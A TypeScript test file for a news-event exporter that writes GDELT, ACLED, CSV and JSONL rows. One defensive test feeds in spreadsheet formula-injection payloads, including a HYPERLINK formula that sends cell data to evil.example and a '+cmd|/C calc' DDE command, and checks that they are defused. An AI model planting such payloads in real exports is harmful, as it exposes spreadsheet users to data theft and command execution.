import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { readList } from '../lang/load.ts';
import { openSqliteStore } from '../store/sqlite.ts';
import { forEachStore } from '../store/test-stores.ts';
import { syntheticArticle } from '../store/synthetic.ts';
import { EventDetail } from '../store/records.ts';
import { exportLines, FORMATS, type ExportFormat } from './index.ts';
import { ACLED_COLUMNS } from './acled.ts';
import { GDELT_EVENT_COLUMNS, GDELT_MENTION_COLUMNS, gdeltQuadClass } from './gdelt.ts';
import { numericEventId } from './ids.ts';

const fields = (name: string) => readList(new URL(`testdata/${name}`, import.meta.url));

async function storeWithEvents() {
  const store = openSqliteStore(':memory:');
  for (let seed = 1; seed <= 3; seed++) await store.saveAnalysis(...(Object.values(syntheticArticle({ seed, events: 5, publisher: 'Example, "News"' })) as [any, any]));
  const first = (await store.listEvents({}, { limit: 1 })).items[0]!;
  await store.review(first.key, { action: 'reject', note: 'not an attack,\nsee "photo"' }, { kind: 'cli', id: 'u', name: 'ana' });
  return { store, rejected: first.key };
}

async function exported(format: ExportFormat, filter = {}): Promise<string> {
  const { store } = await storeWithEvents();
  let out = '';
  for await (const line of exportLines(format, store.streamEvents(filter))) out += line;
  return out;
}

test('GDELT events: the 61 columns of the codebook, in order, tab-separated, no header', async () => {
  assert.deepEqual([...GDELT_EVENT_COLUMNS], fields('gdelt-events-fields.txt'));
  const rows = (await exported('gdelt')).trimEnd().split('\n').map((l) => l.split('\t'));
  assert.equal(rows.length, 15);
  const col = (name: string) => GDELT_EVENT_COLUMNS.indexOf(name as never);
  for (const r of rows) {
    assert.equal(r.length, 61);
    assert.match(r[col('GLOBALEVENTID')]!, /^\d+$/);
    assert.match(r[col('SQLDATE')]!, /^2024\d{4}$/);
    assert.equal(r[col('MonthYear')], r[col('SQLDATE')]!.slice(0, 6));
    assert.match(r[col('FractionDate')]!, /^2024\.\d{4}$/);
    assert.ok(r[col('EventCode')]!.startsWith(r[col('EventRootCode')]!));
    assert.equal(r[col('QuadClass')], String(gdeltQuadClass(r[col('EventRootCode')]!)));
    assert.match(r[col('Actor1Name')]!, /^[A-Z ]+$/);
    assert.match(r[col('DATEADDED')]!, /^\d{14}$/);
    assert.equal(r[col('ActionGeo_Type')], '4');
    assert.ok(['UP', 'RS'].includes(r[col('ActionGeo_CountryCode')]!), 'FIPS, not ISO: Ukraine is UP, Russia RS');
  }
  const gov = rows.find((r) => r[col('Actor1Code')] === 'PRKGOV')!;
  assert.deepEqual([gov[col('Actor1CountryCode')], gov[col('Actor1Type1Code')], gov[col('Actor1Geo_CountryCode')]], ['PRK', 'GOV', 'KN']);
});

test('GDELT mentions: the 16 columns of the codebook, one per event, with the review status in Extras', async () => {
  assert.deepEqual([...GDELT_MENTION_COLUMNS], fields('gdelt-mentions-fields.txt'));
  const { store, rejected } = await storeWithEvents();
  const lines: string[] = [];
  for await (const l of exportLines('gdelt-mentions', store.streamEvents({}))) lines.push(l);
  const events: string[] = [];
  for await (const l of exportLines('gdelt', store.streamEvents({}))) events.push(l);
  const rows = lines.map((l) => l.trimEnd().split('\t'));
  assert.ok(rows.every((r) => r.length === 16));
  assert.deepEqual(rows.map((r) => r[0]), events.map((l) => l.split('\t')[0]), 'each mention names its event');
  const statuses = rows.map((r) => r[15]);
  assert.equal(statuses.filter((s) => s === 'review=rejected').length, 1);
  assert.equal(statuses.filter((s) => s === 'review=unreviewed').length, 14);
  const rejectedRow = (await store.getEvent(rejected))!;
  const row = rows[0]!;
  assert.equal(Number(row[9]), rejectedRow.event.trigger.start, 'ActionCharOffset is the trigger');
  assert.equal(Number(row[12]), rejectedRow.articleChars, 'MentionDocLen');
});

test('ACLED: its 31 columns in its order, quoted where needed, review status in tags', async () => {
  const rows: string[][] = parse(await exported('acled'));
  assert.deepEqual(rows[0], [...ACLED_COLUMNS]);
  assert.equal(ACLED_COLUMNS.length, 31);
  const body = rows.slice(1).map((r) => Object.fromEntries(ACLED_COLUMNS.map((c, i) => [c, r[i]])));
  assert.equal(body.length, 15);
  for (const r of body) {
    assert.equal(Object.keys(r).length, 31);
    assert.match(r.event_date!, /^2024-06-\d\d$/);
    assert.ok(['804', '643'].includes(r.iso!), 'ISO numeric');
    assert.match(r.tags!, /^review: (unreviewed|rejected); stage: completed/);
    assert.equal(r.source, 'Example, "News"');
  }
  const attack = body.find((r) => r.sub_event_type === 'Armed clash');
  assert.ok(attack, 'CAMEO 190 is an ACLED armed clash');
  assert.equal(attack.disorder_type, 'Political violence');
  assert.equal(attack.inter1, '1');
  assert.equal(body.filter((r) => r.tags!.startsWith('review: rejected')).length, 1);
});

test('CSV of events: a header, one row per event, and filters apply', async () => {
  const rows: Record<string, string>[] = parse(await exported('csv', { type: ['ASSAULT'] }), { columns: true });
  assert.ok(rows.length > 0);
  assert.ok(rows.every((r) => r.type === 'ASSAULT'));
  assert.deepEqual(Object.keys(rows[0]!), [...FORMATS.csv.columns!]);
  const all: Record<string, string>[] = parse(await exported('csv'), { columns: true });
  assert.equal(all.length, 15);
  const rejected = all.find((r) => r.review_status === 'rejected')!;
  assert.equal(rejected.review_note, 'not an attack,\nsee "photo"');
});

test('cells that a spreadsheet would run as a formula are defused in every delimited format; numbers stay numbers', async () => {
  const store = openSqliteStore(':memory:');
  const { article, analysis } = syntheticArticle({ seed: 1, events: 3, publisher: '=HYPERLINK("https://evil.example/?"&A1,"x")' });
  await store.saveAnalysis({ ...article, title: '+cmd|/C calc!A0', url: 'https://paper.example/-1' }, analysis);
  const first = (await store.listEvents({}, { limit: 1 })).items[0]!;
  await store.review(first.key, { action: 'reject', note: '@SUM(1+1)*cmd' }, { kind: 'cli', id: 'u', name: '-2+3' });
  const out = async (format: ExportFormat) => {
    let text = '';
    for await (const line of exportLines(format, store.streamEvents({}))) text += line;
    return text;
  };
  const csv: Record<string, string>[] = parse(await out('csv'), { columns: true });
  const reviewed = csv.find((r) => r.review_status === 'rejected')!;
  assert.deepEqual([reviewed.source, reviewed.title, reviewed.review_note, reviewed.reviewer], [
    `'=HYPERLINK("https://evil.example/?"&A1,"x")`, "'+cmd|/C calc!A0", "'@SUM(1+1)*cmd", "'-2+3",
  ]);
  assert.ok(csv.some((r) => Number(r.goldstein) < 0), 'a negative Goldstein value is exported as a number');
  assert.ok(csv.every((r) => !/^'/.test(r.goldstein!) && !/^'/.test(r.longitude!)));
  const acled: Record<string, string>[] = parse(await out('acled'), { columns: true });
  assert.ok(acled.every((r) => Object.values(r).every((v) => !/^[=+@]/.test(v) && !/^-(?![\d.])/.test(v))), 'no ACLED cell starts a formula');
  for (const format of ['gdelt', 'gdelt-mentions'] as const) {
    const cells = (await out(format)).trimEnd().split('\n').flatMap((l) => l.split('\t'));
    assert.ok(cells.every((v) => !/^[=+@]/.test(v) && !/^-(?![\d.]+$)/.test(v)), `no ${format} cell starts a formula`);
  }
});

forEachStore('JSONL: one event a line in Sumber\'s own schema, complete beyond the export batch size', async (open) => {
  const store = await open();
  await store.saveAnalysis(...(Object.values(syntheticArticle({ seed: 9, events: 2100 })) as [any, any]));
  let n = 0;
  const keys = new Set<string>();
  for await (const line of exportLines('jsonl', store.streamEvents({}))) {
    const e = EventDetail.parse(JSON.parse(line));
    keys.add(e.key);
    n++;
  }
  assert.equal(n, 2100);
  assert.equal(keys.size, 2100);
});

forEachStore("an analyst's change of type reaches the GDELT and ACLED rows: AID corrected to PROTEST exports as a protest", async (open) => {
  const store = await open();
  await store.saveAnalysis(...(Object.values(syntheticArticle({ seed: 1, events: 10 })) as [any, any]));
  const aid = (await store.listEvents({ type: ['AID'] }, { limit: 1 })).items[0]!;
  await store.review(aid.key, { action: 'correct', correction: { type: 'PROTEST' } }, { kind: 'cli', id: 'u', name: 'ana' });
  const lines = async (format: ExportFormat) => {
    const out: string[] = [];
    for await (const l of exportLines(format, store.streamEvents({ article: aid.articleId }))) out.push(l);
    return out;
  };

  const col = (name: string) => GDELT_EVENT_COLUMNS.indexOf(name as never);
  const gdelt = (await lines('gdelt')).map((l) => l.trimEnd().split('\t')).find((r) => r[0] === String(numericEventId(aid.key)))!;
  assert.match(gdelt[col('EventCode')]!, /^14\d$/);
  assert.deepEqual([gdelt[col('EventBaseCode')], gdelt[col('EventRootCode')], gdelt[col('QuadClass')], gdelt[col('GoldsteinScale')]], ['140', '14', '3', '-6.5']);

  const [header, ...body]: string[][] = parse((await lines('acled')).join(''));
  const acled = body.map((r) => Object.fromEntries(header!.map((c, i) => [c, r[i]]))).find((r) => r.tags!.startsWith('review: corrected'))!;
  assert.deepEqual([acled.disorder_type, acled.event_type, acled.sub_event_type], ['Demonstrations', 'Protests', 'Peaceful protest']);

  const csv: Record<string, string>[] = parse((await lines('csv')).join(''), { columns: true });
  const row = csv.find((r) => r.key === aid.key)!;
  assert.deepEqual([row.type, row.machine_type, row.cameo_code, row.machine_cameo_code, row.quad_class], ['PROTEST', 'AID', '140', '070', '4']);
});

test("GDELT's QuadClass follows the CAMEO root as GDELT assigns it", () => {
  const byRoot = ['01', '05', '06', '09', '10', '14', '15', '20'].map((r) => gdeltQuadClass(r));
  assert.deepEqual(byRoot, [1, 1, 2, 2, 3, 3, 4, 4]);
});
